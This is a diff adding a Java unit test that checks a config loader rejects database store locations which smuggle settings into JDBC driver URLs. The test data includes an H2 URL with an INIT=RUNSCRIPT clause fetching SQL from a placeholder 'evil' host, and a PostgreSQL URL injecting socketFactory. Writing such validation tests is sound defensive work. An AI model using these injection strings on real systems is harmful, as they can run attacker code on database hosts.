@@ -272,6 +272,14 @@ class ConfigLoaderTest {
     }
 
     @Test
+    void aStoreLocationCannotSmuggleSettingsIntoTheDriversUrl() {
+        assertThat(problems("store: \"h2:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"\n")).singleElement().asString()
+                .contains("the H2 store path must not contain ';'");
+        assertThat(problems("store: postgresql://u@db/x%3FsocketFactory=y\n")).singleElement().asString()
+                .contains("store database name 'x?socketFactory=y' must be");
+    }
+
+    @Test
     void anH2StorePathIsUnderTheDataDirectoryUnlessAbsolute() throws Exception {
         assertThat(load("data_dir: /d\nstore: h2:other.mv.db\n").store()).isEqualTo(new StoreLocation.H2File(Path.of("/d/other")));
         assertThat(load("data_dir: /d\nstore: h2:/elsewhere/x\n").store()).isEqualTo(new StoreLocation.H2File(Path.of("/elsewhere/x")));
